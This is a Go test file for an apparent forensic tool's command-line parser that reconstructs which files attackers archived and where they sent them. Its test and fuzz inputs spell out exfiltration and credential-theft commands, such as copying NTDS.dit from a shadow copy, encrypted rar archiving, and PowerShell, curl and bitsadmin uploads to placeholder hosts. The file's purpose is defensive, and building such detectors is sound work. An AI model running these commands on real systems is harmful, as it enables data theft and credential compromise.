package exposure

import (
	"slices"
	"strings"
	"testing"

	"github.com/spoor-hunt/spoor/internal/result"
)

func TestSplitArgs(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{`rar.exe a -hpX d.rar *.dwg`, []string{"rar.exe", "a", "-hpX", "d.rar", "*.dwg"}},
		{`"C:\Program Files\WinRAR\rar.exe" a "D:\My Data\x.rar" D:\p\`, []string{`C:\Program Files\WinRAR\rar.exe`, "a", `D:\My Data\x.rar`, `D:\p\`}},
		// The program name takes no escapes: a backslash before its quote is literal.
		{`"C:\x\"y z`, []string{`C:\x\y`, "z"}},
		{`p a\\"b c"`, []string{"p", `a\b c`}},
		{`p a\\\"b`, []string{"p", `a\"b`}},
		{`p a\\b`, []string{"p", `a\\b`}},
		{`p "a""b" c`, []string{"p", `a"b`, "c"}},
		{`p "unterminated arg`, []string{"p", "unterminated arg"}},
		{"  \t ", nil},
	} {
		if got := SplitArgs(tc.in); !slices.Equal(got, tc.want) {
			t.Errorf("SplitArgs(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCommands(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string // each command's arguments joined by |
	}{
		{`cmd.exe /c cd /d C:\x & rar a -hpp d.rar *.dwg > out.txt 2>&1`,
			[]string{`cmd.exe|/c|cd|/d|C:\x|&|rar|a|-hpp|d.rar|*.dwg|>|out.txt|2>&1`, `cd|/d|C:\x`, `rar|a|-hpp|d.rar|*.dwg`}},
		// cmd strips the first and last quote of its payload.
		{`cmd /c "whoami & net user" > C:\1.txt`, []string{`cmd|/c|whoami & net user|>|C:\1.txt`, "whoami", "net|user"}},
		// One quoted program with spaces is kept whole.
		{`cmd /c "C:\Program Files\7-Zip\7z.exe"`, []string{`cmd|/c|C:\Program Files\7-Zip\7z.exe`, `C:\Program Files\7-Zip\7z.exe`}},
		// Two quotes around a command that is no program file: stripped.
		{`"C:\Windows\system32\cmd.exe" /c "copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit"`,
			[]string{`C:\Windows\system32\cmd.exe|/c|copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit`,
				`copy|\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit|C:\Extract\ntds.dit`}},
		{`cmd /c copy a^&b c && xcopy d e`, []string{`cmd|/c|copy|a^&b|c|&&|xcopy|d|e`, `copy|a&b|c`, `xcopy|d|e`}},
		{`powershell.exe -NoP -ep bypass -c "Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put"`,
			[]string{`powershell.exe|-NoP|-ep|bypass|-c|Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put`,
				`Compress-Archive|-Path|D:\a b\*|-DestinationPath|C:\x.zip`, `iwr|-Uri|https://h/u|-InFile|C:\x.zip|-Method|Put`}},
		// -EncodedCommand: base64 of UTF-16LE "cp C:\a D:\b".
		{`powershell -enc YwBwACAAQwA6AFwAYQAgAEQAOgBcAGIA`, []string{`powershell|-enc|YwBwACAAQwA6AFwAYQAgAEQAOgBcAGIA`, `cp|C:\a|D:\b`}},
	} {
		var got []string
		for _, c := range Commands(tc.in) {
			got = append(got, strings.Join(c.Args, "|"))
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("Commands(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
	}
}

func TestGlobMatch(t *testing.T) {
	for _, tc := range []struct {
		pat, name string
		want      bool
	}{
		{`D:\Shares\CAD\**`, `d:\shares\cad\a\b.dwg`, true},
		{`D:\Shares\CAD\**`, `D:\Shares\CADX\b.dwg`, false},
		{`**\*.dwg`, `D:\x\y.DWG`, true},
		{`D:\p\*.dwg`, `D:\p\q\y.dwg`, false},
		{`D:\p\**\*.dwg`, `D:\p\y.dwg`, true},
		{`C:\t\d1.part?.rar`, `C:\t\d1.part3.rar`, true},
	} {
		if got := globMatch(tc.pat, tc.name); got != tc.want {
			t.Errorf("globMatch(%q, %q) = %v, want %v", tc.pat, tc.name, got, tc.want)
		}
	}
}

func TestResolve(t *testing.T) {
	for _, tc := range []struct{ p, cwd, want string }{
		{`d.rar`, `C:\Users\a\`, `C:\Users\a\d.rar`},
		{`..\x\*.dwg`, `D:\Data\Projects\`, `D:\Data\x\*.dwg`},
		{`\Temp\o.7z`, `D:\Data\`, `D:\Temp\o.7z`},
		{`d.rar`, ``, `d.rar`},
		{`\\fs\share\..\x`, `C:\`, `\\fs\share\x`},
		{`remote:bucket/x`, `C:\`, `remote:bucket/x`},
		{`C:rel`, `C:\w`, `C:\w\rel`},
		{`%ProgramData%\o.7z`, `C:\w`, `C:\ProgramData\o.7z`},
		{`$env:PUBLIC\o.zip`, `C:\w`, `C:\Users\Public\o.zip`},
		{`%TEMP%\o.zip`, `C:\w`, `%TEMP%\o.zip`},
		{`$env:APPDATA\o.zip`, `C:\w`, `%APPDATA%\o.zip`},
	} {
		if got := resolve(tc.p, tc.cwd); got != tc.want {
			t.Errorf("resolve(%q, %q) = %q, want %q", tc.p, tc.cwd, got, tc.want)
		}
	}
}

func TestExpandCurlGlob(t *testing.T) {
	got := expandCurlGlob(`C:\t\d1.part{1,2,3}.rar`)
	want := []string{`C:\t\d1.part1.rar`, `C:\t\d1.part2.rar`, `C:\t\d1.part3.rar`}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := expandCurlGlob(`f[08-10].bin`); !slices.Equal(got, []string{"f08.bin", "f09.bin", "f10.bin"}) {
		t.Errorf("range: got %q", got)
	}
	if got := expandCurlGlob(`{a,b}{c,d}[1-100]`); len(got) != 1 {
		t.Errorf("past maxExpansion: got %d paths, want the pattern alone", len(got))
	}
}

// TestDriveMapParameters: New-PSDrive's parameters are read by name
// (abbreviated, -Name:value) or position; a parameter whose name grows
// when lower-cased (Ⱥ, invalid UTF-8) is skipped: its value was cut at
// the lower-cased name's length, past the argument's end (a panic).
func TestDriveMapParameters(t *testing.T) {
	for _, tc := range []struct{ line, drive, share string }{
		{`powershell -c "New-PSDrive -Name Z -PSProvider FileSystem -Root \\fs\s"`, "z:", `\\fs\s`},
		{`powershell -c "ndr -N:Y -R:\\fs\Fin -Persist"`, "y:", `\\fs\Fin`},
		{`powershell -c "ndr X FileSystem \\fs\t"`, "x:", `\\fs\t`},
		{"powershell -c \"ndr -\u023a: -Root:\\\\fs\\s Z\"", "z:", `\\fs\s`},
		{"powershell -c \"ndr -\xff: -Root:\\\\fs\\s Z\"", "z:", `\\fs\s`},
	} {
		var drive, share string
		for _, c := range Commands(tc.line) {
			if d, s, ok := driveMap(c); ok {
				drive, share = d, s
			}
		}
		if drive != tc.drive || share != tc.share {
			t.Errorf("%q: drive %q share %q, want %q %q", tc.line, drive, share, tc.drive, tc.share)
		}
	}
}

// TestRewritingBounded: what rewriting a line's commands adds to them
// (a for loop's body per pattern, a pipeline's $_, the listing piped in,
// variables) is bounded: a line of a few KiB made megabytes of paths (a
// %f repeated in the body, a long $_ or $a used a thousand times).
func TestRewritingBounded(t *testing.T) {
	long := `C:\` + strings.Repeat("x", 3000)
	for _, tc := range []struct{ name, line, cwd string }{
		{"for loop", `cmd /c for %f in (` + long + `) do copy ` + strings.Repeat("%f", 1500) + ` D:\o`, `C:\w`},
		{"pipeline $_", `gci ` + long + ` | % { 7z a D:\o.7z ` + strings.Repeat("$_ ", 1500) + `}`, ""},
		{"listing piped in", `gci ` + long + strings.Repeat(" | cpi -d b", 450), ""},
		{"variables", `$a = '` + long + `'` + "\n7z a D:\\o.7z " + strings.Repeat("$a ", 1500), ""},
	} {
		var cmds []Command
		if tc.cwd != "" {
			cmds = Commands(tc.line)
		} else {
			cmds = PowerShellCommands(tc.line)
		}
		total := 0
		for _, it := range fromCommands(result.ExposureItem{}, cmds, tc.cwd, "", tc.line) {
			for _, s := range it.Sources {
				total += len(s)
			}
			total += len(it.Destination)
		}
		if bound := 2 * (len(tc.line) + 4*maxCommandLine); total > bound {
			t.Errorf("%s: %d bytes of paths from a line of %d, want at most %d", tc.name, total, len(tc.line), bound)
		}
	}
}

// FuzzCommands checks that no command line makes the splitting or the
// tools' recognisers panic, hang or grow without bound.
func FuzzCommands(f *testing.F) {
	for _, s := range []string{
		`cmd.exe /c "rar a -hpX -v100m d.rar D:\p\*.dwg" & curl -T "d.part{1,2}.rar" https://x/`,
		`powershell -c "Compress-Archive -Path a,b -DestinationPath c.zip; Invoke-WebRequest -InFile c.zip -Uri u"`,
		`tar -czf o.tgz -C D:\src .`, `7z a -pX -mhe=on -v1g o.7z @list.txt`, `makecab /D CabinetNameTemplate=x.cab /F l.ddf`,
		`robocopy \\fs\s C:\t *.docx /E`, `bitsadmin /transfer j /upload http://x/y C:\f`, `rclone copy D:\p r:b`,
		`powershell -c "$w.UploadFile('u', (x), 'f'); [IO.Compression.ZipFile]::CreateFromDirectory('a','b'); gci a | ? {$_} | cpi -d b"`,
		"powershell -c \"$a = 'C:\\x'; [int]$b=$a; $c = gci $a; cpi \\\"$a\\b$a$a\\\" $b\"",
		`cmd /c for /r D:\d %f in (*.docx *.pdf) do @copy "%f" C:	\ & for %%g in (a b) do for %%h in (c d) do (copy %%g%%h e)`,
		`cmd /c net use Z: \fs\s & bitsadmin /create /upload j & powershell -c "ndr -Name Y -Root \fs	 -Persist:$true"`,
		`cmd /c "a^"b" 2>&1 > "x y"`, `powershell -enc ////`, `curl -F "f=@C:\a;type=x" -d @b --upload-file=[1-9]`,
		"powershell -c \"ndr -\u023a: -R:\\\\fs\\s Z\"",
	} {
		f.Add(s, `C:\w\`)
	}
	f.Fuzz(func(t *testing.T, line, cwd string) {
		if len(line) > 2*maxCommandLine || len(cwd) > 512 {
			return
		}
		cmds := Commands(line)
		if len(cmds) > 4*len(line)+4 {
			t.Fatalf("%d commands from %d bytes", len(cmds), len(line))
		}
		for _, c := range cmds {
			if drive, share, ok := driveMap(c); ok && (len(drive) != 2 || !isUNC(share)) {
				t.Fatalf("drive %q mapped to %q", drive, share)
			}
			if job, ok := bitsUploadJob(c); ok && job == "" {
				t.Fatal("an upload job without a name")
			}
			a, ok := recognise(c, cwd)
			if ok && len(a.sources) > maxExpansion*len(c.Args)+len(c.Args) {
				t.Fatalf("%d sources from %d arguments", len(a.sources), len(c.Args))
			}
		}
		// With the shell's state (cd, PowerShell variables, pipelines, for
		// loops): at most an item per command and loop pattern, each
		// source bounded.
		items := fromCommands(result.ExposureItem{}, cmds, cwd, "", line)
		if len(items) > len(cmds)+4*maxForSet {
			t.Fatalf("%d items from %d commands", len(items), len(cmds))
		}
		for _, it := range items {
			for _, s := range it.Sources {
				if len(s) > maxCommandLine+len(cwd)+1 {
					t.Fatalf("a source of %d bytes from a line of %d", len(s), len(line))
				}
			}
		}
	})
}
